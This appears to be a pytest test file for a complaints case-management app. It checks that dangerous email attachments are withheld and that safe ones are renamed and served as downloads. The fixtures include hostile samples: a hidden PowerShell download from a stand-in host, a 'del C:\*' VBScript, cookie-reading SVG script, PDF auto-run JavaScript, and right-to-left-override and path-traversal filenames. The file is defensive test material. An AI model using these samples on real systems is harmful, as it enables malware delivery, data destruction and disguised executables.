"""Attachments of inbound email: only what the content shows to be a safe document or image goes on the case,
under a name that matches it, and it is downloaded so that no browser runs it."""

from __future__ import annotations

import io
import zipfile
import zlib
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from conftest import Cast
from liaison.cases.models import Attachment, Case, TimelineKind
from liaison.cases.services import case_add_attachment
from liaison.inbound.models import InboundStatus
from liaison.inbound.services import inbound_message_ingest
from liaison.inbound.tests import samples
from liaison.lib.errors import ApplicationError

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00" + b"\x00" * 24
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32

_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}


def office(kind: str, *, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal Office Open XML package of the given kind, as Word, Excel or PowerPoint would lay it out."""
    part, content_type = _MAIN[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/><Override PartName="/{part}" ContentType="{content_type}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'officeDocument" Target="{part}"/></Relationships>',
        )
        archive.writestr(part, "<document>Minutes of the meeting with the ward manager.</document>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def pdf_with_hidden_javascript() -> bytes:
    """A PDF 1.5 whose catalogue, with an OpenAction running JavaScript, is packed in a compressed object stream."""
    objects = b"1 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >>"
    packed = zlib.compress(objects)
    return (
        b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
        + b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def reply_with(case: Case, content: bytes, filename: str) -> Any:
    return inbound_message_ingest(raw=samples.outlook_reply(case.reference, attachment=content, filename=filename))


def download(client: Any, attachment: Attachment) -> Any:
    response = client.get(reverse("cases:attachment", args=[attachment.case.reference, attachment.pk]))
    assert response.status_code == 200
    return response


# -- Withheld -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "shown", "why"),
    [
        (
            "run.html",
            b"<html><body><script>document.location='http://x.example/'</script></body></html>",
            "run.html",
            "a web page (HTML), which can run scripts",
        ),
        (
            "run.bat",
            b'@echo off\r\npowershell -nop -w hidden -c "iwr http://x.example/a.exe"\r\n',
            "run.bat",
            "a Windows batch file, which runs commands",
        ),
        (
            "invoice.js",
            b"var s = new ActiveXObject('WScript.Shell');\ns.Run('calc.exe');\n",
            "invoice.js",
            "a script, which can run code",
        ),
        (
            "plan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
            "plan.svg",
            "an SVG drawing, which can contain scripts",
        ),
        (
            "update.hta",
            b'<hta:application id="u"/><script language="VBScript">Sub Window_OnLoad\nEnd Sub</script>',
            "update.hta",
            "an HTML application (.hta), which runs as a program",
        ),
        (
            "letter.docx",
            office("docm", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "letter.docx",
            "a Word document with macros, which can run code",
        ),
        (
            "budget.xlsx",
            office("xlsx", extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "budget.xlsx",
            "an Excel workbook with macros, which can run code",
        ),
        (
            "form.docx",
            office("docx", extra={"word/activeX/activeX1.bin": b"\x00"}),
            "form.docx",
            "a Word document with ActiveX controls",
        ),
        (
            "notes.txt\u202egpj.vbs",
            b'CreateObject("WScript.Shell").Run "cmd /c del C:\\*"\r\n',
            "notes.txtgpj.vbs",
            "can run code",
        ),
        ("notes.txt\u202egpj.vbs", b"Nothing but words here.\n", "notes.txtgpj.vbs", "a VBScript file"),
        ("leaflet.pdf", pdf_with_hidden_javascript(), "leaflet.pdf", "a PDF with JavaScript, which can run code"),
        ("photos.zip", zipped({"a.jpg": JPEG, "b.exe": samples.EXE}), "photos.zip", "zip"),
        ("complaint.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "complaint.doc", "an older Office file"),
        (
            "earlier email.eml",
            b"Received: from a.example\nFrom: a@a.example\nTo: b@b.example\nSubject: x\n"
            b"MIME-Version: 1.0\nContent-Type: text/html\n\n<p>hello</p>\n",
            "earlier email.eml",
            "a saved email",
        ),
        ("../../windows/system32/evil.exe", samples.EXE, "evil.exe", "a Windows program"),
    ],
)
def test_a_dangerous_attachment_is_withheld_with_a_reason_a_person_understands(
    riverside_case: Case, filename: str, content: bytes, shown: str, why: str
) -> None:
    result = reply_with(riverside_case, content, filename)

    message = result.message
    assert message.status == InboundStatus.ATTACHED
    assert not riverside_case.attachments.exists()
    note = riverside_case.timeline.get(kind=TimelineKind.ATTACHMENT)
    assert note.summary == f"Not attached from the email: {shown}"
    assert why in note.body
    assert "\u202e" not in note.summary and "\u202e" not in message.reason
    assert f"Attachment {shown} withheld: This kind of file cannot be attached: it is" in message.reason
    email = riverside_case.timeline.get(kind=TimelineKind.EMAIL)
    assert email.data["withheld"][0]["name"] == shown
    # Nothing is lost: the file is still inside the stored original.
    assert samples.raw_on_disk(message) == samples.outlook_reply(
        riverside_case.reference, attachment=content, filename=filename
    )


# -- Accepted, renamed, downloaded safely --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "stored", "content_type", "served"),
    [
        ("photo.exe", JPEG, "photo.jpg", "image/jpeg", "image/jpeg"),
        ("IMG_2041.JPEG", JPEG, "IMG_2041.jpeg", "image/jpeg", "image/jpeg"),
        ("corridor.webp", WEBP, "corridor.webp", "image/webp", "image/webp"),
        ("bed sore.heic", HEIC, "bed sore.heic", "image/heic", "application/octet-stream"),
        ("Lettre de réclamation.pdf", samples.PDF, "Lettre de réclamation.pdf", "application/pdf", "application/pdf"),
        (
            "minutes.docx",
            office("docx"),
            "minutes.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "application/octet-stream",
        ),
        (
            "costs.bin",
            office("xlsx"),
            "costs.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "application/octet-stream",
        ),
        (
            "slides.pptx",
            office("pptx"),
            "slides.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            "application/octet-stream",
        ),
        (
            "what happened",
            "I waited <3 hours> for a bed. Café closed.\n".encode(),
            "what happened.txt",
            "text/plain",
            "text/plain; charset=utf-8",
        ),
    ],
)
def test_a_safe_attachment_is_kept_under_a_name_matching_its_content(
    riverside_case: Case,
    rgh_complaints: Cast,
    as_user: Any,
    filename: str,
    content: bytes,
    stored: str,
    content_type: str,
    served: str,
) -> None:
    result = reply_with(riverside_case, content, filename)

    assert result.withheld == []
    attachment = riverside_case.attachments.get()
    assert (attachment.original_name, attachment.content_type) == (stored, content_type)
    assert riverside_case.timeline.filter(kind=TimelineKind.ATTACHMENT, summary=f"Attached {stored}").exists()

    client = as_user(rgh_complaints.officer)
    response = download(client, attachment)
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == served
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.encode("ascii")  # the header itself is plain ASCII
    assert "filename*=UTF-8''" in disposition
    page = client.get(reverse("cases:detail", args=[riverside_case.reference])).content.decode()
    assert stored in page


def test_a_download_gives_an_ascii_name_and_the_exact_name_for_modern_browsers(
    riverside_case: Case, rgh_complaints: Cast, as_user: Any
) -> None:
    reply_with(riverside_case, samples.PDF, "Lettre de réclamation «urgent».pdf")
    attachment = riverside_case.attachments.get()

    response = download(as_user(rgh_complaints.officer), attachment)

    assert response["Content-Disposition"] == (
        'attachment; filename="Lettre de reclamation urgent.pdf"; '
        "filename*=UTF-8''Lettre%20de%20r%C3%A9clamation%20%C2%ABurgent%C2%BB.pdf"
    )


def test_a_file_stored_before_the_content_check_is_downloaded_as_plain_bytes_under_a_safe_name(
    riverside_case: Case, rgh_complaints: Cast, as_user: Any
) -> None:
    attachment = case_add_attachment(
        acting_user=rgh_complaints.officer, case=riverside_case, upload=SimpleUploadedFile("notes.txt", b"Ward 7")
    )
    # As an older version stored it: the sender's name, and a type no longer on the allow-list.
    Attachment.objects.filter(pk=attachment.pk).update(original_name="run.bat", content_type="text/html")
    attachment.refresh_from_db()

    response = download(as_user(rgh_complaints.officer), attachment)

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == "attachment; filename=\"run.bin\"; filename*=UTF-8''run.bin"
    assert response["X-Content-Type-Options"] == "nosniff"


# -- The same rule for officers' uploads -----------------------------------------------------------------------


def test_an_officer_upload_is_checked_and_named_the_same_way(riverside_case: Case, rgh_complaints: Cast) -> None:
    officer = rgh_complaints.officer
    with pytest.raises(ApplicationError, match="a Word document with macros, which can run code"):
        case_add_attachment(
            acting_user=officer,
            case=riverside_case,
            upload=SimpleUploadedFile("letter.docx", office("docm", extra={"word/vbaProject.bin": b"m"})),
        )
    with pytest.raises(ApplicationError, match="a web page"):
        case_add_attachment(
            acting_user=officer, case=riverside_case, upload=SimpleUploadedFile("notes.txt", b"<script>x</script>")
        )
    assert not riverside_case.attachments.exists()

    kept = case_add_attachment(
        acting_user=officer, case=riverside_case, upload=SimpleUploadedFile("scan\u202efdp.exe", JPEG)
    )
    assert (kept.original_name, kept.content_type) == ("scanfdp.jpg", "image/jpeg")
